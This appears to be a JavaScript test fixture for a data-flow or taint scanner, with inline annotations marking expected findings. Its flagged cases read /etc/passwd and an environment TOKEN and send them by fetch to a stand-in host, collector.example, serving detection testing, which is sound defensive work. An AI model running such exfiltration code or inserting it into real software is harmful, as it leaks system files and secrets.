// Files and the environment come in, fetch sends.
const fs = require('fs');
const { env } = process;

function file() {
  const data = fs.readFileSync('/etc/passwd'); //~ source(FILE) f1, capability(FILES)
  fetch('https://collector.example/u', { method: 'POST', body: data }); //~ sink(egress.http) f1, finding(traced) f1, capability(NETWORK), endpoint("https://collector.example/u")
}

function environment() {
  fetch('https://collector.example/?t=' + process.env.TOKEN); //~ source(ENVIRONMENT) f2, sink(egress.http) f2, finding(traced) f2
}

function near() {
  fs.readFileSync('/etc/hosts'); //~ ok
  fetch('https://collector.example/n', { method: process.env.METHOD ? 'GET' : 'POST' }); //~ ok
  return process.env.HOME; //~ ok
}
